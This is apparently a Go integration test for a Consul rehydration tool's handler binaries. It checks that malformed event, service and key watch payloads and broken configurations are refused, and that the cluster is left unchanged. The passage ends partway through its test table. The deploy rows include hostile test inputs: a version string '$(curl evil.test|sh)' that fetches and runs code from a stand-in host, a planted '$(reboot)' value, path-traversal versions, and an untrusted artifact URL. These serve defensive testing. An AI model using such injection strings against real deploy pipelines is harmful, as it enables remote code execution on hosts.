// Package badinput proves that bad input to the real handler binaries is refused with
// the documented exit code and a message naming the problem, and that it changes
// nothing: not Consul's KV, not the cloud's instances or images, not the raft
// configuration.
//
// The deploy and reconfigure handlers get bad payloads, bad desired values and
// broken blocks the same way.
//
// One real 3-server cluster runs on the local provider (`rehydrate local up`, run as a
// subprocess) on image A, with a newer image B registered, so that a valid request
// would start a roll: "nothing changed" means something. Every row of the table runs
// spinup, spindown or `rehydrate` as a subprocess with its stdin and configuration,
// and the world is compared, value by value, before and after. A last control case
// shows that the comparison does see a change a handler makes.
package badinput

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hashicorp/consul/api"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/consul-rehydrate/consul-rehydrate/internal/app"
	"github.com/consul-rehydrate/consul-rehydrate/internal/cloud/local"
	"github.com/consul-rehydrate/consul-rehydrate/internal/command"
	"github.com/consul-rehydrate/consul-rehydrate/internal/payload"
	"github.com/consul-rehydrate/consul-rehydrate/test/testcluster"
)

const (
	clusterName = "badinput"
	eventName   = "consul-rehydrate" // the configured roll.event_name (the default)
	// execTimeout bounds every subprocess the table runs; a bad input is refused at
	// once, so reaching it is a failure.
	execTimeout = 30 * time.Second
	// tableBudget bounds the whole table (about 5s when all is well).
	tableBudget = 3 * time.Minute
)

// binDir holds the handler binaries built once for the package.
var binDir string

func TestMain(m *testing.M) {
	dir, err := testcluster.BuildHandlers("../..")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	binDir = dir
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// env is the one local cluster the test runs against.
type env struct {
	t          *testing.T
	dir        string
	cfgPath    string // the valid handler configuration
	stateDir   string
	clientAddr string // the client agent's HTTP address
	p          *local.Provider
	consul     *api.Client
}

// goodConfig is the valid handler configuration; broken variants are derived from it,
// so line numbers in their messages are known:
//
//	1 cluster
//	2 servers
//	4-6 roll block (5: poll_interval)
//	8-12 provider "local" block
func goodConfig(stateDir, addresses string) string {
	return fmt.Sprintf(`cluster = %q
servers = 3

roll {
  poll_interval = "500ms"
}

provider "local" {
  state_dir     = %q
  consul_binary = "consul"
  addresses     = %q
}
`, clusterName, stateDir, addresses)
}

// result is what one subprocess did.
type result struct {
	code     int
	stdout   string
	stderr   string
	elapsed  time.Duration
	consumed int64 // bytes of stdin it read (or that the pipe took)
}

// childEnv is the environment of every subprocess: the test's own (PATH included),
// without any Consul address, token or TLS setting and without rehydrate settings from
// outside, plus the handler binaries' directory and the extra variables.
func childEnv(extra ...string) []string {
	var out []string
	for _, kv := range os.Environ() {
		if strings.HasPrefix(kv, "CONSUL_HTTP_") || strings.HasPrefix(kv, "REHYDRATE_") {
			continue
		}
		out = append(out, kv)
	}
	return append(append(out, app.EnvBinDir+"="+binDir), extra...)
}

// countingReader counts the bytes read from r.
type countingReader struct {
	r io.Reader
	n atomic.Int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// run runs one of the built binaries with stdin and the extra environment, bounded by
// timeout, and returns what it did. A run that reaches its timeout fails the test.
func run(t *testing.T, timeout time.Duration, stdin []byte, extraEnv []string, prog string, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(binDir, prog), args...)
	cmd.Env = childEnv(extraEnv...)
	in := &countingReader{r: bytes.NewReader(stdin)}
	cmd.Stdin = in
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.WaitDelay = 5 * time.Second // never hang on a pipe a stray child keeps open
	start := time.Now()
	err := cmd.Run()
	res := result{stdout: stdout.String(), stderr: stderr.String(), elapsed: time.Since(start), consumed: in.n.Load()}
	if ctx.Err() != nil {
		t.Fatalf("%s %s: still running after %s (killed)\nstderr:\n%s", prog, strings.Join(args, " "), timeout, res.stderr)
	}
	var ee *exec.ExitError
	switch {
	case err == nil:
		res.code = 0
	case errors.As(err, &ee):
		res.code = ee.ExitCode()
	default:
		t.Fatalf("%s %s: %v\nstderr:\n%s", prog, strings.Join(args, " "), err, res.stderr)
	}
	return res
}

// newEnv brings up the cluster on image A, registers image B and registers the
// cluster's teardown.
func newEnv(t *testing.T) *env {
	t.Helper()
	if _, err := testcluster.ConsulBinary(); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	block := testcluster.AllocateBlock(t)
	e := &env{t: t, dir: dir, cfgPath: filepath.Join(dir, "rehydrate.hcl"), stateDir: filepath.Join(dir, "state")}
	require.NoError(t, os.WriteFile(e.cfgPath, []byte(goodConfig(e.stateDir, block.Prefix().String())), 0o644))

	// Registered before `local up`, so that a failed or partial start is torn down too.
	t.Cleanup(func() {
		if t.Failed() {
			if b, err := os.ReadFile(filepath.Join(e.stateDir, "handlers.log")); err == nil {
				t.Logf("handlers.log (tail):\n%s", testcluster.Tail(string(b), 60))
			}
		}
		res := run(t, 3*time.Minute, nil, nil, "rehydrate", "-config", e.cfgPath, "local", "down")
		if res.code != app.ExitOK {
			t.Errorf("local down: exit %d\n%s%s", res.code, res.stdout, res.stderr)
		}
	})

	res := run(t, 4*time.Minute, nil, nil, "rehydrate", "-config", e.cfgPath, "local", "up", "--servers", "3", "--image", "A")
	require.Equal(t, app.ExitOK, res.code, "local up:\n%s%s", res.stdout, res.stderr)
	res = run(t, time.Minute, nil, nil, "rehydrate", "-config", e.cfgPath, "local", "image", "register", "B")
	require.Equal(t, app.ExitOK, res.code, "local image register B:\n%s%s", res.stdout, res.stderr)

	var err error
	e.p, err = local.New(local.Config{StateDir: e.stateDir, Addresses: block.Prefix()})
	require.NoError(t, err)
	e.clientAddr, err = e.p.ClientAddr()
	require.NoError(t, err)
	// The operator's client: HTTPS to the client agent, verified with the cluster's CA,
	// with the management token.
	ac, err := e.p.APIConfig()
	require.NoError(t, err)
	e.consul, err = api.NewClient(ac)
	require.NoError(t, err)
	return e
}

// handlerEnv is the environment of a handler run by the test: as an agent hands it to
// a watch handler (the handlers' files have no consul block), HTTPS with the
// cluster's CA and a token file. The token is the management token: the rows test
// what the handlers refuse, not what their tokens may do (test/acl does).
func (e *env) handlerEnv() []string {
	return []string{
		api.HTTPAddrEnvName + "=https://" + e.clientAddr,
		api.HTTPCAFile + "=" + e.p.CAFile(),
		api.HTTPTokenFileEnvName + "=" + e.p.ManagementTokenFile(),
	}
}

// world is everything a handler could change.
type world struct {
	KV        []kvEntry
	Instances []instance
	Images    []string
	Raft      []string // server IDs in the raft configuration
}

type kvEntry struct {
	Key         string
	ModifyIndex uint64
	Flags       uint64
	Session     string
	Value       string
}

type instance struct {
	ID, ImageID, Address, State, ActionID, Launched string
}

// snapshot reads the world with consistent reads.
func (e *env) snapshot() world {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var w world
	q := (&api.QueryOptions{RequireConsistent: true}).WithContext(ctx)
	pairs, _, err := e.consul.KV().List("", q)
	require.NoError(e.t, err, "list KV")
	for _, p := range pairs {
		w.KV = append(w.KV, kvEntry{Key: p.Key, ModifyIndex: p.ModifyIndex, Flags: p.Flags, Session: p.Session, Value: string(p.Value)})
	}
	insts, err := e.p.Instances(ctx)
	require.NoError(e.t, err, "instances")
	for _, i := range insts {
		w.Instances = append(w.Instances, instance{
			ID: i.ID, ImageID: i.ImageID, Address: i.Address, State: i.State,
			ActionID: i.ActionID, Launched: i.Launched.Format(time.RFC3339Nano),
		})
	}
	slices.SortFunc(w.Instances, func(a, b instance) int { return strings.Compare(a.ID, b.ID) })
	imgs, err := e.p.Images(ctx)
	require.NoError(e.t, err, "images")
	for _, i := range imgs {
		w.Images = append(w.Images, i.ID)
	}
	slices.Sort(w.Images)
	raft, err := e.consul.Operator().RaftGetConfiguration(q)
	require.NoError(e.t, err, "raft configuration")
	for _, s := range raft.Servers {
		w.Raft = append(w.Raft, s.ID)
	}
	slices.Sort(w.Raft)
	return w
}

// event is one user event as the agent's event watch writes it (api.UserEvent).
func event(id, name string, p []byte) map[string]any {
	return map[string]any{
		"ID": id, "Name": name, "Payload": p,
		"NodeFilter": "", "ServiceFilter": "", "TagFilter": "", "Version": 1, "LTime": 7,
	}
}

// events is an event watch payload.
func events(evs ...map[string]any) []byte {
	b, err := json.Marshal(evs)
	if err != nil {
		panic(err)
	}
	return b
}

// request is an event carrying our request payload p.
func request(id string, p string) []byte {
	return events(event(id, eventName, []byte(p)))
}

// huge repeats elem in a JSON array until the array is at least n bytes: valid JSON,
// too big to be a watch payload.
func huge(elem string, n int) []byte {
	var b bytes.Buffer
	b.Grow(n + len(elem) + 2)
	b.WriteByte('[')
	for b.Len() < n {
		if b.Len() > 1 {
			b.WriteByte(',')
		}
		b.WriteString(elem)
	}
	b.WriteByte(']')
	return b.Bytes()
}

// Broken configurations, each a variant of goodConfig with one fault.
type brokenConfig struct {
	name string
	// edit turns the good config's text into the broken one.
	edit func(good string) string
	// want returns the message stderr must hold, given the file's path.
	want func(path string) string
}

var brokenConfigs = []brokenConfig{
	{
		name: "HCL syntax error",
		edit: func(s string) string { return strings.Replace(s, "servers = 3", "servers = = 3", 1) },
		want: func(p string) string { return p + ":2:11: invalid expression" },
	},
	{
		name: "unknown attribute",
		edit: func(s string) string { return strings.Replace(s, "servers = 3\n", "servers = 3\nbogus = true\n", 1) },
		want: func(p string) string {
			return p + `:3:1: unsupported argument: an argument named "bogus" is not expected here`
		},
	},
	{
		name: "wrong type",
		edit: func(s string) string { return strings.Replace(s, "servers = 3", `servers = "three"`, 1) },
		want: func(p string) string { return p + ":2:12: invalid value for servers: a number is required" },
	},
	{
		name: "even number of servers",
		edit: func(s string) string { return strings.Replace(s, "servers = 3", "servers = 4", 1) },
		want: func(p string) string { return p + ":2:1: servers must be an odd number from 1 to 7, got 4" },
	},
	{
		name: "missing provider block",
		edit: func(s string) string { return s[:strings.Index(s, "provider ")] },
		want: func(p string) string {
			return p + `:1:1: missing provider block: want provider "local" { ... } or provider "aws" { ... }`
		},
	},
	{
		name: "two provider blocks",
		edit: func(s string) string { return s + "\n" + s[strings.Index(s, "provider "):] },
		want: func(p string) string {
			return p + ":14:1: duplicate provider block: only one is allowed, the first is at " + p + ":8:1"
		},
	},
	{
		name: "duration that does not parse",
		edit: func(s string) string { return strings.Replace(s, `"500ms"`, `"soon"`, 1) },
		want: func(p string) string {
			return p + `:5:3: invalid duration "soon" for roll.poll_interval: time: invalid duration "soon"`
		},
	},
}

// row is one bad input: a program, its arguments, its stdin, and what it must answer.
type row struct {
	name  string
	prog  string
	args  []string
	stdin []byte
	code  int
	want  []string // each must appear in stderr
	// maxRead, if set, is the most stdin the program may read.
	maxRead int64
}

func TestBadInput_IsRefusedWithItsExitCodeAndMessageAndChangesNothing(t *testing.T) {
	e := newEnv(t)
	cfg := []string{"-config", e.cfgPath}

	// B is newer than A, which every server runs: a valid request would roll. The plan
	// (which changes nothing) says so.
	var next command.NextStep
	testcluster.WaitFor(t, time.Minute, "the plan to launch a server on B", func() (bool, string) {
		res := run(t, execTimeout, nil, e.handlerEnv(), "rehydrate", "-config", e.cfgPath, "plan", "--json")
		if res.code != app.ExitOK {
			return false, fmt.Sprintf("exit %d: %s", res.code, res.stderr)
		}
		if err := json.Unmarshal([]byte(res.stdout), &next); err != nil {
			return false, err.Error()
		}
		return next.Kind == "launch" && next.Image == "B", fmt.Sprintf("%+v", next)
	})

	// Something for the KV comparison to compare besides what the handlers write.
	_, err := e.consul.KV().Put(&api.KVPair{Key: "badinput/seed", Value: []byte("seed")}, nil)
	require.NoError(t, err)

	// What a hostile writer left for the deploy rows to meet, before the world is
	// read, so that a row that acted on it would show: on the client agent's node, an
	// "api" current version and a "db" unfinished deployment's previous version that
	// are not versions; in the catalog, a node with no agent behind it that runs
	// "fakeweb".
	nodeName, err := e.consul.Agent().NodeName()
	require.NoError(t, err)
	_, err = e.consul.KV().Put(&api.KVPair{Key: "deploy/api/nodes/" + nodeName + "/current", Value: []byte("$(reboot)")}, nil)
	require.NoError(t, err)
	_, err = e.consul.KV().Put(&api.KVPair{Key: "deploy/db/nodes/" + nodeName + "/status",
		Value: []byte(`{"id":"d-resume","version":"v2","previous":"../../etc/cron.d/x","state":"deploying","started":"2026-01-01T00:00:00Z","attempts":1}`)}, nil)
	require.NoError(t, err)
	_, err = e.consul.Catalog().Register(&api.CatalogRegistration{Node: "fake-web", Address: "127.0.0.1",
		Service: &api.AgentService{ID: "fakeweb", Service: "fakeweb", Port: 8080}}, nil)
	require.NoError(t, err)
	testcluster.WaitFor(t, time.Minute, "the fake node in the catalog", func() (bool, string) {
		svcs, _, err := e.consul.Catalog().Service("fakeweb", "", nil)
		return err == nil && len(svcs) == 1, fmt.Sprintf("%d instances, error %v", len(svcs), err)
	})

	before := e.snapshot()
	require.Len(t, before.Instances, 3, "%+v", before.Instances)
	for _, i := range before.Instances {
		require.Equal(t, "A", i.ImageID, "%+v", i)
		require.Equal(t, "running", i.State, "%+v", i)
	}
	require.Len(t, before.Raft, 3)
	require.Equal(t, []string{"A", "B"}, before.Images)
	seed := slices.IndexFunc(before.KV, func(k kvEntry) bool { return k.Key == "badinput/seed" })
	require.GreaterOrEqual(t, seed, 0, "%+v", before.KV)
	require.Equal(t, "seed", before.KV[seed].Value)

	// A valid request with no payload: it asks for the newest allowed image, B. Given
	// with a broken configuration, it must still change nothing.
	wouldRoll := request("e0000000-0000-0000-0000-000000000000", "")
	consulEntry := `{"Node":{"Node":"n1","Address":"127.0.0.1"},"Service":{"ID":"consul","Service":"consul","Port":8300},"Checks":[]}`
	limit := int64(payload.DefaultMaxBytes)
	// What stdin the handler may read past the limit: the one byte over it, plus what
	// the pipe and the copying goroutine buffer.
	slack := int64(1 << 20)
	tenMiB := 10 << 20

	rows := []row{
		// spinup: the event watch's payload.
		{name: "spinup: empty stdin", prog: "spinup", args: cfg, stdin: nil, code: app.ExitBadPayload,
			want: []string{"refusing event payload", "decode event watch payload: empty payload"}},
		{name: "spinup: whitespace only", prog: "spinup", args: cfg, stdin: []byte(" \n\t\n"), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: empty payload"}},
		{name: "spinup: null", prog: "spinup", args: cfg, stdin: []byte("null\n"), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: expected array, got null"}},
		{name: "spinup: not JSON", prog: "spinup", args: cfg, stdin: []byte("hello\n"), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: invalid JSON at offset 1"}},
		{name: "spinup: truncated JSON", prog: "spinup", args: cfg, stdin: wouldRoll[:len(wouldRoll)/2], code: app.ExitBadPayload,
			want: []string{"decode event watch payload: truncated JSON: unexpected EOF"}},
		{name: "spinup: trailing data", prog: "spinup", args: cfg, stdin: append(slices.Clone(wouldRoll), []byte(" []")...), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: trailing data after JSON value at offset"}},
		{name: "spinup: wrong shape, an object", prog: "spinup", args: cfg, stdin: wouldRoll[1 : len(wouldRoll)-1], code: app.ExitBadPayload,
			want: []string{"decode event watch payload: expected array, got object"}},
		{name: "spinup: wrong shape, an array of numbers", prog: "spinup", args: cfg, stdin: []byte("[1,2,3]"), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: element 0 (offset 1): expected object, got number"}},
		{name: "spinup: wrong shape, a null event", prog: "spinup", args: cfg, stdin: []byte("[null]"), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: element 0 (offset 1): expected object, got null"}},
		{name: "spinup: wrong type of field", prog: "spinup", args: cfg, stdin: []byte(`[{"ID":"e1","Name":"consul-rehydrate","LTime":"seven"}]`), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: element 0", "cannot unmarshal string into Go struct field UserEvent.LTime of type uint64"}},
		{name: "spinup: huge (10 MiB of valid events)", prog: "spinup", args: cfg,
			stdin: huge(string(wouldRoll[1:len(wouldRoll)-1]), tenMiB), code: app.ExitBadPayload,
			want:    []string{fmt.Sprintf("decode event watch payload: payload exceeds %d bytes", limit)},
			maxRead: limit + slack},
		{name: "spinup: invalid base64 in Payload", prog: "spinup", args: cfg,
			stdin: []byte(`[{"ID":"e1","Name":"consul-rehydrate","Payload":"!!not base64!!"}]`), code: app.ExitBadPayload,
			want: []string{"decode event watch payload: element 0", "illegal base64 data at input byte 0"}},
		{name: "spinup: wrong event name", prog: "spinup", args: cfg,
			stdin: events(event("e2", "deploy", nil)), code: app.ExitBadPayload,
			want: []string{"refusing event", `event_id=e2`, `event name \"deploy\", want \"consul-rehydrate\"`}},
		// A malformed event does not hide an earlier well-formed one (so a buffer with
		// one is a valid request); only a buffer of malformed events is refused.
		{name: "spinup: every event malformed", prog: "spinup", args: cfg,
			stdin: events(event("e3a", eventName, []byte(`{"image":"B"}`)), event("e3b", "deploy", nil)), code: app.ExitBadPayload,
			want: []string{`event_id=e3a`, `unknown field \"image\"`, `event_id=e3b`, `event name \"deploy\", want \"consul-rehydrate\"`}},
		{name: "spinup: request payload not JSON", prog: "spinup", args: cfg, stdin: request("e4", "B"), code: app.ExitBadPayload,
			want: []string{`parse rehydrate request in event \"e4\": invalid JSON at offset`}},
		{name: "spinup: request payload not an object", prog: "spinup", args: cfg, stdin: request("e5", `["B"]`), code: app.ExitBadPayload,
			want: []string{`parse rehydrate request in event \"e5\": expected JSON object, got array`}},
		{name: "spinup: request payload truncated", prog: "spinup", args: cfg, stdin: request("e6", `{"image_id":"B"`), code: app.ExitBadPayload,
			want: []string{`parse rehydrate request in event \"e6\": truncated JSON: unexpected EOF`}},
		{name: "spinup: request with an unknown field", prog: "spinup", args: cfg, stdin: request("e7", `{"image":"B"}`), code: app.ExitBadPayload,
			want: []string{`parse rehydrate request in event \"e7\": unknown field \"image\" at offset 8`}},
		{name: "spinup: request with a field in the wrong case", prog: "spinup", args: cfg, stdin: request("e8", `{"Image_ID":"B"}`), code: app.ExitBadPayload,
			want: []string{`unknown field \"Image_ID\"`}},
		{name: "spinup: request with image_id twice", prog: "spinup", args: cfg, stdin: request("e9", `{"image_id":"A","image_id":"B"}`), code: app.ExitBadPayload,
			want: []string{`duplicate field \"image_id\"`}},
		{name: "spinup: request with image_id not a string", prog: "spinup", args: cfg, stdin: request("e10", `{"image_id":42}`), code: app.ExitBadPayload,
			want: []string{`field \"image_id\": expected string, got number`}},
		{name: "spinup: request with an invalid image_id", prog: "spinup", args: cfg, stdin: request("e11", `{"image_id":"has space"}`), code: app.ExitBadPayload,
			want: []string{`image_id has ' ' at byte 3; want printable characters without whitespace`}},
		{name: "spinup: request with an empty image_id", prog: "spinup", args: cfg, stdin: request("e12", `{"image_id":""}`), code: app.ExitBadPayload,
			want: []string{"image_id is empty; omit it to ask for the newest allowed image"}},
		{name: "spinup: request with an over-long image_id", prog: "spinup", args: cfg,
			stdin: request("e13", `{"image_id":"`+strings.Repeat("b", payload.MaxImageIDLen+1)+`"}`), code: app.ExitBadPayload,
			want: []string{fmt.Sprintf("image_id has %d characters, more than %d", payload.MaxImageIDLen+1, payload.MaxImageIDLen)}},
		{name: "spinup: request payload over the event size limit", prog: "spinup", args: cfg,
			stdin: request("e14", `{"image_id":"B"}`+strings.Repeat(" ", payload.MaxRequestBytes)), code: app.ExitBadPayload,
			want: []string{fmt.Sprintf("payload is %d bytes, exceeds %d bytes", len(`{"image_id":"B"}`)+payload.MaxRequestBytes, payload.MaxRequestBytes)}},
		{name: "spinup: request payload not UTF-8", prog: "spinup", args: cfg,
			stdin: events(event("e15", eventName, []byte("{\"image_id\":\"B\xff\"}"))), code: app.ExitBadPayload,
			want: []string{"payload is not valid UTF-8"}},
		{name: "spinup: request payload only whitespace", prog: "spinup", args: cfg, stdin: request("e16", "  "), code: app.ExitBadPayload,
			want: []string{"payload is only whitespace; send none to ask for the newest allowed image"}},

		// spindown: the service watch's payload.
		{name: "spindown: empty stdin", prog: "spindown", args: cfg, stdin: nil, code: app.ExitBadPayload,
			want: []string{"refusing service payload", "decode service watch payload: empty payload"}},
		{name: "spindown: not JSON", prog: "spindown", args: cfg, stdin: []byte("hello\n"), code: app.ExitBadPayload,
			want: []string{"refusing service payload", "decode service watch payload: invalid JSON at offset 1"}},
		// Consul never writes null for a service watch (an empty result is []), so
		// null is refused, not taken as "no instances".
		{name: "spindown: null", prog: "spindown", args: cfg, stdin: []byte("null\n"), code: app.ExitBadPayload,
			want: []string{"decode service watch payload: expected array, got null"}},
		{name: "spindown: wrong shape, an object", prog: "spindown", args: cfg, stdin: []byte(consulEntry), code: app.ExitBadPayload,
			want: []string{"decode service watch payload: expected array, got object"}},
		{name: "spindown: truncated JSON", prog: "spindown", args: cfg, stdin: []byte("[" + consulEntry[:40]), code: app.ExitBadPayload,
			want: []string{"decode service watch payload: truncated JSON: unexpected EOF"}},
		{name: "spindown: entry for another service", prog: "spindown", args: cfg,
			stdin: []byte(`[` + consulEntry + `,{"Node":{"Node":"n2"},"Service":{"ID":"web","Service":"web"},"Checks":[]}]`), code: app.ExitBadPayload,
			want: []string{"refusing service payload", `entry for service \"web\", want \"consul\"`}},
		{name: "spindown: entry without a service", prog: "spindown", args: cfg, stdin: []byte(`[{"Node":{"Node":"n1"}}]`), code: app.ExitBadPayload,
			want: []string{`entry for service \"\", want \"consul\"`}},
		{name: "spindown: huge (10 MiB of valid entries)", prog: "spindown", args: cfg, stdin: huge(consulEntry, tenMiB), code: app.ExitBadPayload,
			want:    []string{fmt.Sprintf("decode service watch payload: payload exceeds %d bytes", limit)},
			maxRead: limit + slack},

		// Flags and a missing configuration.
		{name: "spinup: unknown flag", prog: "spinup", args: append(slices.Clone(cfg), "-bogus"), stdin: wouldRoll, code: app.ExitUsage,
			want: []string{"flag provided but not defined: -bogus"}},
		{name: "spindown: unknown flag", prog: "spindown", args: append([]string{"-bogus"}, cfg...), stdin: []byte("[]"), code: app.ExitUsage,
			want: []string{"flag provided but not defined: -bogus"}},
		{name: "rehydrate: unknown global flag", prog: "rehydrate", args: append([]string{"-bogus"}, append(slices.Clone(cfg), "status")...), code: app.ExitUsage,
			want: []string{"flag provided but not defined: -bogus"}},
		{name: "rehydrate status: unknown flag", prog: "rehydrate", args: append(slices.Clone(cfg), "status", "--bogus"), code: app.ExitUsage,
			want: []string{"flag provided but not defined: -bogus"}},
		{name: "spinup: no configuration", prog: "spinup", stdin: wouldRoll, code: app.ExitConfig,
			want: []string{"spinup: no configuration: pass -config FILE or set $REHYDRATE_CONFIG"}},
		{name: "spindown: no configuration", prog: "spindown", stdin: []byte("[]"), code: app.ExitConfig,
			want: []string{"spindown: no configuration: pass -config FILE or set $REHYDRATE_CONFIG"}},
	}

	// The deploy handler: the key watch's payload and its desired value. The node's
	// desired key would deploy if the value were good.
	deployCfg := filepath.Join(e.dir, "deploy.hcl")
	require.NoError(t, os.WriteFile(deployCfg, []byte(`deploy "web" {
  command = ["/bin/sh", "-c", "echo deployed"]
}
deploy "api" {
  command = ["/bin/sh", "-c", "echo deployed"]
}
deploy "db" {
  command = ["/bin/sh", "-c", "echo deployed"]
}
`), 0o644))
	// A deploy block that pins artifacts: an allow-list and a required sha256.
	pinnedCfg := filepath.Join(e.dir, "deploy-pinned.hcl")
	require.NoError(t, os.WriteFile(pinnedCfg, []byte(`deploy "web" {
  command        = ["/bin/sh", "-c", "echo deployed"]
  artifacts      = ["https://releases.example.com/web/*"]
  require_sha256 = true
}
`), 0o644))
	// A token file others may read: the configuration that names it is refused.
	openToken := filepath.Join(e.dir, "open.token")
	require.NoError(t, os.WriteFile(openToken, []byte("00000000-0000-0000-0000-000000000001\n"), 0o600))
	require.NoError(t, os.Chmod(openToken, 0o644))
	openTokenCfg := filepath.Join(e.dir, "deploy-open-token.hcl")
	require.NoError(t, os.WriteFile(openTokenCfg, []byte(fmt.Sprintf(`consul {
  token_file = %q
}
deploy "web" {
  command = ["/bin/sh", "-c", "echo deployed"]
}
`, openToken)), 0o644))
	sum := strings.Repeat("0123456789abcdef", 4)
	brokenDeployCfg := filepath.Join(e.dir, "deploy-broken.hcl")
	require.NoError(t, os.WriteFile(brokenDeployCfg, []byte(`deploy "web" {
  timeout = "5m"
}
`), 0o644))
	// A deploy block whose node_filter does not parse: refused at load.
	badFilterCfg := filepath.Join(e.dir, "deploy-bad-filter.hcl")
	require.NoError(t, os.WriteFile(badFilterCfg, []byte(`deploy "web" {
  command     = ["/bin/sh", "-c", "echo deployed"]
  node_filter = "Node ==="
}
`), 0o644))
	// A deploy block for the servers' own "consul" service whose node_filter selects
	// none of them: real nodes with agents, in the catalog, that a rollout without the
	// filter would deploy to (and so change the world).
	outsideCfg := filepath.Join(e.dir, "deploy-outside-filter.hcl")
	require.NoError(t, os.WriteFile(outsideCfg, []byte(`deploy "consul" {
  command     = ["/bin/sh", "-c", "echo deployed"]
  node_filter = "NodeMeta.pool == \"blue\""
}
`), 0o644))
	dcfg := []string{"-config", deployCfg}
	desiredOf := func(service, node, value string) []byte {
		b, err := json.Marshal(&api.KVPair{Key: "deploy/" + service + "/nodes/" + node + "/desired", Value: []byte(value)})
		require.NoError(t, err)
		return b
	}
	desired := func(node, value string) []byte { return desiredOf("web", node, value) }
	goodDesired := `{"id":"d1","version":"v2"}`
	rows = append(rows, []row{
		{name: "deploy: empty stdin", prog: "deploy", args: dcfg, stdin: nil, code: app.ExitBadPayload,
			want: []string{"refusing key payload", "decode key watch payload: empty payload"}},
		{name: "deploy: not JSON", prog: "deploy", args: dcfg, stdin: []byte("hello\n"), code: app.ExitBadPayload,
			want: []string{"decode key watch payload: invalid JSON at offset 1"}},
		{name: "deploy: wrong shape, an array", prog: "deploy", args: dcfg, stdin: []byte("[" + string(desired(nodeName, goodDesired)) + "]"), code: app.ExitBadPayload,
			want: []string{"decode key watch payload: expected object or null, got array"}},
		{name: "deploy: desired value not JSON", prog: "deploy", args: dcfg, stdin: desired(nodeName, "v2 please"), code: app.ExitBadPayload,
			want: []string{"bad desired value: not a JSON object of id, version, artifact and sha256"}},
		{name: "deploy: desired value without an id", prog: "deploy", args: dcfg, stdin: desired(nodeName, `{"version":"v2"}`), code: app.ExitBadPayload,
			want: []string{"bad desired value: missing id"}},
		{name: "deploy: desired value without a version", prog: "deploy", args: dcfg, stdin: desired(nodeName, `{"id":"d1"}`), code: app.ExitBadPayload,
			want: []string{"bad desired value: missing version"}},
		{name: "deploy: desired key of another node", prog: "deploy", args: dcfg, stdin: desired("someone-else", goodDesired), code: app.ExitBadPayload,
			want: []string{`is for node \"someone-else\", and this agent is \"` + nodeName + `\"`}},
		{name: "deploy: key outside the layout", prog: "deploy", args: dcfg,
			stdin: []byte(`{"Key":"rehydrate/badinput/roll","Value":"e30="}`), code: app.ExitBadPayload,
			want: []string{`key \"rehydrate/badinput/roll\" is not deploy/<service>/nodes/<node>/desired`}},
		{name: "deploy: a configuration with no deploy block", prog: "deploy", args: cfg, stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
			want: []string{"deploy: " + e.cfgPath + `:1:1: a deploy "<service>" block is required`}},
		{name: "deploy: a deploy block without a command", prog: "deploy", args: []string{"-config", brokenDeployCfg}, stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
			want: []string{"deploy: " + brokenDeployCfg + ":1:1: deploy.web.command is required"}},
		// The deploy trust model: whoever writes a node's keys picks what its commands
		// run with, so versions are plain tokens, artifacts and digests are held to the
		// node's deploy block, and the rollout deploys only to nodes with an agent.
		{name: "deploy: desired version that is a path", prog: "deploy", args: dcfg,
			stdin: desired(nodeName, `{"id":"d1","version":"../../etc/cron.d/x"}`), code: app.ExitBadPayload,
			want: []string{`bad desired value: version \"../../etc/cron.d/x\" must be 1 to 128 characters of A-Z, a-z, 0-9 and . _ + -`}},
		{name: "deploy: desired version that is shell", prog: "deploy", args: dcfg,
			stdin: desired(nodeName, `{"id":"d1","version":"$(curl evil.test|sh)"}`), code: app.ExitBadPayload,
			want: []string{`bad desired value: version \"$(curl evil.test|sh)\" must be`}},
		{name: "deploy: a current version that is not a version", prog: "deploy", args: dcfg,
			stdin: desiredOf("api", nodeName, goodDesired), code: app.ExitRefused,
			want: []string{`refused: deploy/api/nodes/` + nodeName + `/current: version \"$(reboot)\" must be`}},
		{name: "deploy: a resumed deployment's previous version that is not a version", prog: "deploy", args: dcfg,
			stdin: desiredOf("db", nodeName, `{"id":"d-resume","version":"v2"}`), code: app.ExitRefused,
			want: []string{`refused: deploy/db/nodes/` + nodeName + `/status: previous version \"../../etc/cron.d/x\" must be`}},
		{name: "deploy: an artifact the allow-list does not have", prog: "deploy", args: []string{"-config", pinnedCfg},
			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://evil.test/web/v2.tgz","sha256":"`+sum+`"}`), code: app.ExitRefused,
			want: []string{`refused: artifact \"https://evil.test/web/v2.tgz\" matches none of deploy.web.artifacts`}},
		{name: "deploy: an allowed artifact escaping with ..", prog: "deploy", args: []string{"-config", pinnedCfg},
			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/../admin/x","sha256":"`+sum+`"}`), code: app.ExitRefused,
			want: []string{`has \"..\"`}},
		{name: "deploy: no sha256 where the block requires one", prog: "deploy", args: []string{"-config", pinnedCfg},
			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/v2.tgz"}`), code: app.ExitRefused,
			want: []string{"refused: no sha256, and deploy.web.require_sha256 is set"}},
		{name: "deploy: a sha256 that is not 64 hex digits", prog: "deploy", args: []string{"-config", pinnedCfg},
